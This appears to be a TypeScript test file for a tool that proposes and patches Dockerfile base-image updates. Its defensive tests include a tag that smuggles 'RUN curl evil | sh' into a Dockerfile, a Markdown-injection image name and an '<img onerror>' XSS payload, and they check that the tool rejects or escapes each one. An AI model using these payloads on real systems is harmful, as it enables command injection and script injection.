/**
 * Fix proposals: the `FROM` rewrite (only the reference's characters; ARG defaults; what is left alone and
 * why), the plan per base (all or none), and the patch applied by real `git apply` to a real repository.
 */
import { execFileSync } from 'node:child_process'
import { mkdtemp, readFile, writeFile, mkdir } from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import { describe, expect, it } from 'vitest'
import { rewriteFroms } from '../../src/dockerfile/rewrite.js'
import { readFroms } from '../../src/dockerfile/parse.js'
import { planFixes } from '../../src/fix/plan.js'
import { renderPatch } from '../../src/fix/patch.js'
import { buildSarif } from '../../src/code-scanning/sarif.js'
import { FIX_TEXTS } from '../../src/fix/texts.js'
import type { Located, RecommendationEntry } from '../../src/types/entry.js'
import { withBestMove } from '../../src/verdict/rank.js'
import { outdatedEntry } from '../kit/entries.js'
import { renderSummary } from '../../src/summary/summary.js'
import { renderDashboard } from '../../src/dashboard/render.js'

const moved = (text: string, lines: number[], tag: string) => {
  const result = rewriteFroms(text, lines, tag)
  if ('skipped' in result) throw new Error(result.skipped.reason)
  return result.text
}

describe('moving FROM lines', () => {
  it('edits only the reference: flags, AS, comments, CRLF, a BOM and continuations stay byte for byte', () => {
    const text =
      '\uFEFF# syntax=docker/dockerfile:1\r\nFROM --platform=$BUILDPLATFORM node:22-alpine AS build # pinned line\r\nRUN echo hi \\\r\n  there\r\nFROM \\\r\n  node:22-alpine\r\nFROM "node:22-alpine" AS quoted\r\n'
    expect(moved(text, [2, 5, 7], '22.14-alpine')).toBe(
      '\uFEFF# syntax=docker/dockerfile:1\r\nFROM --platform=$BUILDPLATFORM node:22.14-alpine AS build # pinned line\r\nRUN echo hi \\\r\n  there\r\nFROM \\\r\n  node:22.14-alpine\r\nFROM "node:22.14-alpine" AS quoted\r\n'
    )
  })

  it('keeps the name as written: registry, library/ and no tag at all', () => {
    expect(moved('FROM docker.io/library/node:22\n', [1], '22-slim')).toBe('FROM docker.io/library/node:22-slim\n')
    expect(moved('FROM localhost:5000/team/base\n', [1], '2')).toBe('FROM localhost:5000/team/base:2\n')
  })

  it('edits the ARG default a FROM takes its reference from, whole or in part', () => {
    expect(moved('ARG BASE=node:22-alpine\nFROM ${BASE}\n', [2], '22.14-alpine')).toBe('ARG BASE=node:22.14-alpine\nFROM ${BASE}\n')
    expect(moved('ARG NODE=22\nFROM node:${NODE}-alpine AS a\n', [2], '23-alpine')).toBe('ARG NODE=23\nFROM node:${NODE}-alpine AS a\n')
    expect(moved('ARG TAG\nFROM node:${TAG:-22-alpine}\n', [2], '22.14-alpine')).toBe('ARG TAG\nFROM node:${TAG:-22.14-alpine}\n')
    // Two stages of the same base share the ARG: one edit.
    expect(moved('ARG V=22\nFROM node:$V AS a\nFROM node:$V AS b\n', [2, 3], '23')).toBe('ARG V=23\nFROM node:$V AS a\nFROM node:$V AS b\n')
  })

  it.each([
    ['a variable with no default', 'ARG TAG\nFROM node:${TAG}\n', 2, 'built from ${TAG}, which has no default: left alone'],
    ['several variables', 'ARG R=docker.io\nARG T=22\nFROM ${R}/node:${T}\n', 3, 'built from 2 variables: left alone'],
    ['a digest pin', 'FROM node:22@sha256:' + 'a'.repeat(64) + '\n', 1, 'pinned by digest: not proposed until its new digest is known'],
    [
      'an ARG another base shares',
      'ARG V=22\nFROM node:$V AS a\nFROM nginx:$V AS b\n',
      2,
      'the ARG V on line 1 also sets the FROM on line 3: left alone'
    ],
    ['a suffix the new tag cannot keep', 'ARG V=22\nFROM node:${V}-alpine\n', 2, 'the new tag does not fit the variable V: left alone']
  ])('leaves alone %s, and says why', (_, text, line, reason) => {
    expect(rewriteFroms(text, [line], '23-slim')).toEqual({ skipped: { line, reason } })
  })
})

describe('the fix plan and its patch', () => {
  const entry = (image: string, base: string, tag: string) =>
    withBestMove(outdatedEntry(image, base, [0, 2, 0, 0], [{ tag, counts: [0, 0, 0, 0], changes: ['runtime-minor'] }]))

  async function repository(files: Record<string, string>): Promise<string> {
    const root = await mkdtemp(path.join(os.tmpdir(), 'sg-fix-'))
    for (const [name, text] of Object.entries(files)) {
      await mkdir(path.dirname(path.join(root, name)), { recursive: true })
      await writeFile(path.join(root, name), text)
    }
    const git = (...args: string[]) => execFileSync('git', args, { cwd: root, stdio: 'pipe' })
    git('init', '-q')
    git('-c', 'user.name=t', '-c', 'user.email=t@t', 'add', '-A')
    git('-c', 'user.name=t', '-c', 'user.email=t@t', 'commit', '-qm', 'start')
    return root
  }

  const locate = (entries: RecommendationEntry[], files: Record<string, string>): Located => {
    const located: Located = new Map()
    for (const entry of entries) {
      const lines = Object.entries(files).flatMap(([file, text]) =>
        readFroms(text)
          .filter(
            (from) => from.reference === `${entry.baseImage?.name}:${entry.baseImage?.tag}` || from.image.tag === entry.baseImage?.tag
          )
          .map((from) => ({ path: file, line: from.line, stage: `#${from.stage}` }))
      )
      if (lines.length > 0) located.set(entry, lines)
    }
    return located
  }

  it('is applied by git apply on a clean checkout: the bases move, every other byte stays', async () => {
    const files = {
      Dockerfile: '\uFEFFFROM node:22-alpine AS build\r\nRUN npm ci\r\nFROM python:3.11-slim\r\nCMD ["x"]\r\n',
      'services/api/Dockerfile': 'ARG BASE=node:22-alpine\nFROM ${BASE}\n# tail without newline',
      'docs/Dockerfile.dev': 'FROM nginx:1.27\n'
    }
    const entries = [entry('app', 'node:22-alpine', '22.14-alpine'), entry('api', 'python:3.11-slim', '3.13-slim')]
    const root = await repository(files)
    const read = (file: string) => readFile(path.join(root, file), 'utf8').catch(() => undefined)
    const { plans, notProposed } = await planFixes(entries, locate(entries, files), read)
    expect(notProposed).toEqual([])
    expect(plans.map((plan) => [plan.base, plan.target, plan.files.map((file) => file.path)])).toEqual([
      // The reading order: equally urgent, so by image name (api before app).
      ['python:3.11-slim', 'python:3.13-slim', ['Dockerfile']],
      ['node:22-alpine', 'node:22.14-alpine', ['Dockerfile', 'services/api/Dockerfile']]
    ])
    const patch = renderPatch(plans)
    await writeFile(path.join(root, '..', `${path.basename(root)}.patch`), patch)
    execFileSync('git', ['apply', '--check', path.join(root, '..', `${path.basename(root)}.patch`)], { cwd: root })
    execFileSync('git', ['apply', path.join(root, '..', `${path.basename(root)}.patch`)], { cwd: root })
    expect(await readFile(path.join(root, 'Dockerfile'), 'utf8')).toBe(
      '\uFEFFFROM node:22.14-alpine AS build\r\nRUN npm ci\r\nFROM python:3.13-slim\r\nCMD ["x"]\r\n'
    )
    expect(await readFile(path.join(root, 'services/api/Dockerfile'), 'utf8')).toBe(
      'ARG BASE=node:22.14-alpine\nFROM ${BASE}\n# tail without newline'
    )
    expect(await readFile(path.join(root, 'docs/Dockerfile.dev'), 'utf8')).toBe('FROM nginx:1.27\n')
    expect(readFroms(await readFile(path.join(root, 'Dockerfile'), 'utf8')).map((from) => from.reference)).toEqual([
      'node:22.14-alpine',
      'python:3.13-slim'
    ])
  })

  it('proposes a base in all its Dockerfiles or in none, and a hostile tag never', async () => {
    const files = {
      'a/Dockerfile': 'FROM node:22-alpine\n',
      'b/Dockerfile': 'ARG T\nFROM node:${T:-22-alpine}\nFROM node:22-alpine@sha256:' + 'b'.repeat(64) + '\n'
    }
    const entries = [entry('app', 'node:22-alpine', '22.14-alpine')]
    const located: Located = new Map([
      [
        entries[0],
        [
          { path: 'a/Dockerfile', line: 1, stage: '#0' },
          { path: 'b/Dockerfile', line: 3, stage: '#1' }
        ]
      ]
    ])
    const read = async (file: string) => files[file as keyof typeof files]
    expect(await planFixes(entries, located, read)).toEqual({
      plans: [],
      notProposed: [
        { base: 'node:22-alpine', path: 'b/Dockerfile', line: 3, reason: 'pinned by digest: not proposed until its new digest is known' }
      ]
    })
    const hostile = [entry('app', 'node:22-alpine', '22\nRUN curl evil | sh')]
    const { plans, notProposed } = await planFixes(hostile, new Map([[hostile[0], [{ path: 'a/Dockerfile', line: 1, stage: '#0' }]]]), read)
    expect(plans).toEqual([])
    expect(notProposed[0].reason).toMatch(/^the tag "22\\nRUN curl evil \| sh" is not a Docker tag$/)
  })
})

describe('the fixes in the summary and the dashboard', () => {
  it('lists the moves, what waits over fix-pr-limit, and what was not proposed and why', async () => {
    const entries = ['node:22-alpine', 'python:3.11-slim'].map((base, i) =>
      withBestMove(outdatedEntry(`app-${i}`, base, [0, 1, 0, 0], [{ tag: i === 0 ? '22.14-alpine' : '3.13-slim', counts: [0, 0, 0, 0] }]))
    )
    const files = { Dockerfile: 'FROM node:22-alpine\nFROM python:3.11-slim\n' }
    const located: Located = new Map(entries.map((entry, i) => [entry, [{ path: 'Dockerfile', line: i + 1, stage: `#${i}` }]]))
    const proposals = await planFixes(entries, located, async (file) => files[file as keyof typeof files])
    const result = {
      opened: ['node:22-alpine'],
      updated: [],
      unchanged: [],
      waiting: ['python:3.11-slim'],
      declined: [],
      frozen: [],
      closed: [],
      skipped: []
    }
    const fixes = {
      proposals: {
        ...proposals,
        notProposed: [
          { base: 'nginx:1.27', path: 'web/Dockerfile', line: 3, reason: 'pinned by digest: not proposed until its new digest is known' }
        ]
      },
      result
    }
    const expected = [
      '### Fixes',
      '',
      "- **2 base(s) to move**, every `FROM` that names each: `node:22-alpine` → `node:22.14-alpine`, `python:3.11-slim` → `python:3.13-slim`. The change is `fix.patch` (`git apply` takes it) in the run's artifact and the `recommendations` output.",
      '- Opened: `node:22-alpine`',
      '- Waiting (over fix-pr-limit): `python:3.11-slim`',
      '- Not proposed: `nginx:1.27` (`web/Dockerfile:3`): pinned by digest: not proposed until its new digest is known',
      ''
    ].join('\n')
    expect(renderSummary(entries, { fixes })).toContain(expected)
    const body = renderDashboard(entries, undefined, { marker: '<!-- m -->', at: new Date('2026-12-01T05:00:00Z'), fixes })
    expect(body).toContain('- Waiting (over fix-pr-limit): `python:3.11-slim`')
    expect(renderSummary(entries)).not.toContain('### Fixes')
  })
})

describe('the texts of a fix pull request', () => {
  it('keep a report value with line breaks or Markdown out of the title, and escaped in the body', async () => {
    const entry = withBestMove(
      outdatedEntry(
        'app\n## owned',
        'evil\nreg/x:1',
        [0, 1, 0, 0],
        [{ tag: '2', counts: [0, 0, 0, 0], benefits: ['<img src=x onerror=alert(1)>'] }]
      )
    )
    const plan = { base: 'evil\nreg/x:1', tag: '2', target: 'evil\nreg/x:2', kind: 'update' as const, entries: [entry], files: [] }
    expect(FIX_TEXTS.title(plan)).toBe('Move evil reg/x:1 to evil reg/x:2')
    const body = FIX_TEXTS.body(plan, undefined)
    expect(body).not.toContain('<img')
    expect(body).not.toMatch(/^## owned/m)
  })
})

describe('a pinned line in the SARIF results', () => {
  it('names the reference with its new digest, from the registry', () => {
    const entry = withBestMove(outdatedEntry('app', 'node:22-alpine', [0, 1, 0, 0], [{ tag: '22.14-alpine', counts: [0, 0, 0, 0] }]))
    const pinned = `node:22.14-alpine@sha256:${'a'.repeat(64)}`
    const located = new Map([[entry, [{ path: 'Dockerfile', line: 3, stage: '#0' }]]])
    const [result] = buildSarif(located, new Map([['Dockerfile\n3', pinned]])).log.runs[0].results ?? []
    expect(result.message.text).toContain(`This line is pinned: it moves to ${pinned}.`)
    expect(buildSarif(located).log.runs[0].results?.[0].message.text).not.toContain('pinned')
  })
})
